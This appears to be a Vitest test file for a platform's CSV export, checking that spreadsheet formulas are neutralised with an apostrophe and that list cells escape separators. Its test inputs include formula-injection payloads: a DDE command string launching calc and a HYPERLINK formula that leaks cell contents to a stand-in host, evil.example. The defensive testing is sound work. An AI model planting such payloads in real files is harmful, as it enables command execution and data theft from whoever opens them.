/** Cells of the platform's CSV files: no formula reaches a spreadsheet, and the platform reads back what it wrote. */
import { describe, expect, it } from 'vitest';
import { listFormat, neutraliseCell, restoreCell } from './cells.js';

const hostile = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '+1+cmd|x',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '-',
  '=',
  '@',
];

describe('a cell a spreadsheet would run as a formula', () => {
  it('is written with an apostrophe in front, which spreadsheets show as text', () => {
    for (const value of hostile) expect(neutraliseCell(value)).toBe(`'${value}`);
  });

  it('comes back exactly as it was, and so does every value already starting with apostrophes', () => {
    const values = [...hostile, "'=1+1", "''=1+1", "'", "''", "'quoted'", "'-5", 'plain', '', 'e-government', 'a=b', ' =1+1'];
    for (const value of values) expect(restoreCell(neutraliseCell(value))).toBe(value);
  });

  it('leaves plain text and plain numbers alone, so numeric columns stay numbers', () => {
    for (const value of ['Digital payments', '-12.5', '+3', '42', '.5', '1e6', '2026-01-15', "l'Aquila", '']) expect(neutraliseCell(value)).toBe(value);
  });

  it('reads a formula a person protected with an apostrophe in their spreadsheet as the text they meant', () => {
    expect(restoreCell("'=SUM(A1)")).toBe('=SUM(A1)');
    expect(restoreCell("'quoted'")).toBe("'quoted'");
  });
});

describe('a list in one cell', () => {
  const keywords = listFormat(';,');

  it('keeps an item holding a comma, a semicolon or a backslash whole through writing and reading', () => {
    const items = ['e-government, open government', 'smart city; data', 'C:\\path', 'back\\', 'plain'];
    expect(keywords.join(items)).toBe('e-government\\, open government;smart city\\; data;C:\\\\path;back\\\\;plain');
    expect(keywords.split(keywords.join(items))).toEqual(items);
  });

  it('reads a human-made cell with plain separators and spaces', () => {
    expect(keywords.split('open data; smart city, e-health;;')).toEqual(['open data', 'smart city', 'e-health']);
    expect(keywords.split('C:\\temp')).toEqual(['C:\\temp']);
  });

  it('escapes only what its own reader splits at', () => {
    const links = listFormat('\n;', '\n');
    const items = ['https://example.org/a;jsessionid=1', 'https://example.org/b,c'];
    expect(links.join(items)).toBe('https://example.org/a\\;jsessionid=1\nhttps://example.org/b,c');
    expect(links.split(links.join(items))).toEqual(items);
    expect(links.split('https://a.example\r\n https://b.example ; https://c.example')).toEqual(['https://a.example', 'https://b.example', 'https://c.example']);
  });
});
